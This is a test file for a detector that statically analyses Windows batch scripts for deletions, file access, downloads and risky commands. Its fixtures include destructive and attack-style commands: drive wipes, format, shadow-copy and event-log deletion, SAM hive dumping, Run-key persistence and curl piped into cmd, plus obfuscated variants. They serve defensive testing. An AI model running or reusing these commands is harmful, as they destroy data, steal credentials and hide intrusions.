import assert from "node:assert/strict";
import fc from "fast-check";
import { word } from "../../word.ts";
import { showFindings } from "../show_findings.ts";
import { readCmdCode } from "./read_cmd.ts";

const find = (source: string, ...args: string[]): string[] =>
  showFindings(
    readCmdCode(source, {
      home: "C:\\Users\\u",
      env: {},
      args: args.map((arg) => word(arg)),
      budget: { steps: 100_000 },
    }),
  );

/** What must be among the findings. */
const HITS: readonly (readonly [source: string, expected: string])[] = [
  ["rd /s /q C:\\", "delete* C:\\"],
  ["RMDIR /S/Q C:\\", "delete* C:\\"],
  ["rd/s/q C:\\x", "delete* C:\\x"],
  ["del /f /s /q C:\\*.*", "delete* C:\\\\*.*"],
  ["erase a.txt b.txt", "delete b.txt"],
  ['del "C:\\Program Files\\x"', "delete C:\\Program Files\\x"],
  ["d^el x", "delete x"],
  ['"del" x', "run: del|x"],
  ["echo a & del x", "delete x"],
  ["echo a && del x || rd y", "delete y"],
  ["@del x", "delete x"],
  ["(echo a & del x)", "delete x"],
  ["if exist x (del x) else (rd /s y)", "delete* y"],
  ['if "%1"=="" (del x)', "delete x"],
  ["if not defined X del x", "delete x"],
  ["for %i in (a b) do del %i", "delete b"],
  ["for %%i in (a b) do @del %%i", "delete b"],
  ["for /d %i in (C:\\*) do rd /s /q %i", "delete* C:\\\\*"],
  ["for /l %i in (1,1,3) do del f%i", "delete f3"],
  ["for /f %i in ('curl http://x.io') do echo %i", "run: curl|http://x.io"],
  ["set X=del& call %X% y", "delete y"],
  ["set X=C:\\\nrd /s /q %X%", "delete* C:\\"],
  ['set "X=C:\\"\nrd /s /q %X%', "delete* C:\\"],
  ["set X=dxel\n%X:x=% y", "delete y"],
  ["set X=xdelx\n%X:~1,3% y", "delete y"],
  ["set X=y & setlocal enabledelayedexpansion & del !X!", "delete y"],
  ["rd /s /q %USERPROFILE%", "delete* C:\\Users\\u"],
  ["rd /s /q %SystemRoot%", "delete* C:\\Windows"],
  ["del %1", "delete a"],
  ["cd /d C:\\ & rd /s /q x", "delete* C:\\x"],
  ["echo x > f.txt", "write f.txt"],
  ["echo x>>f.txt", "write f.txt"],
  ["sort < f.txt", "read f.txt"],
  ["type secret.txt", "read secret.txt"],
  ["copy a b", "read a"],
  ["copy a b", "write b"],
  ["move a b", "delete* a"],
  ["ren a b", "write b"],
  [
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
    "run: reg|add|HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run|/v|x|/d|y",
  ],
  ["reg save HKLM\\SAM x", "run: reg|save|HKLM\\SAM|x"],
  ["schtasks /create /tn x /tr y", "run: schtasks|/create|/tn|x|/tr|y"],
  ["wevtutil cl System", "run: wevtutil|cl|System"],
  ["vssadmin delete shadows /all", "run: vssadmin|delete|shadows|/all"],
  ['powershell -c "Remove-Item x"', "run: powershell|-c|Remove-Item x"],
  ["cmd /c del x", "run: cmd|/c|del|x"],
  ["start /b evil.exe x", "run: evil.exe|x"],
  ['start "" evil.exe', "run: evil.exe"],
  ["start https://x.io", "connect https://x.io"],
  ["format C: /q", "run: format|C:|/q"],
  ["cipher /w:C:\\", "run: cipher|/w:C:\\"],
  ["curl http://x.io | cmd", "opaque download"],
  ["call :f\ngoto :eof\n:f\ndel x", "delete x"],
  ["%COMSPEC% /c del x", "run: C:\\Windows\\system32\\cmd.exe|/c|del|x"],
];
for (const [source, expected] of HITS) {
  Deno.test(`cmd: ${JSON.stringify(source)} gives ${expected}`, () => {
    const found = find(source, "a");
    assert.ok(found.some((one) => one.replace(/^(run)[#\d.]+:/, "$1:") === expected), found.join("\n"));
  });
}

/** What deletes nothing. */
const HARMLESS = [
  "echo del x",
  "echo rd /s /q C:\\",
  "rem del x",
  ":: del x",
  "REM & del x",
  "echo a ^& del x",
  'echo "a & del x"',
  "title del x",
  "set X=del x",
  "findstr del x",
  "if exist del echo x",
  "dir /s C:\\",
  "type del",
];
for (const source of HARMLESS) {
  Deno.test(`cmd: ${JSON.stringify(source)} deletes nothing`, () => {
    const found = find(source);
    assert.ok(
      !found.some((one) => one.startsWith("delete") || /^run[^:]*: (?:del|rd)\b/.test(one)),
      found.join("\n"),
    );
  });
}

Deno.test("a script that starts itself twice shows", () => {
  assert.ok(find("%0|%0").length > 0);
  assert.ok(find(":s\nstart %0\ngoto s").some((one) => one.startsWith("run")));
});

Deno.test("no batch file makes it throw or run on", () => {
  const piece = fc.constantFrom(
    "if ",
    "for ",
    "%i ",
    "in ",
    "(",
    ")",
    "do ",
    "else ",
    "&",
    "|",
    "^",
    '"',
    "%",
    "%X%",
    "!X!",
    "set X=",
    "del ",
    ">",
    "<",
    "\n",
    "a",
    " ",
    ":~1,2%",
    "call ",
    "start ",
    "/f ",
    "'",
    "echo",
    "\uffff",
  );
  fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => void find(pieces.join(""))), {
    numRuns: 500,
  });
  for (
    const s of [
      "(",
      "if a==b (",
      "for %i in (a b) do (",
      "set X=%X%%X%\n",
      "%X",
      "^",
      "call ",
      "a|",
      "else ",
      "if a==b ",
      "for %i in (a b) do ",
      "%X:a=b%",
      "call set X=%X%%X% & ",
    ]
  ) {
    const start = performance.now();
    find(s.repeat(10_000));
    assert.ok(performance.now() - start < 1_500, s);
  }
});
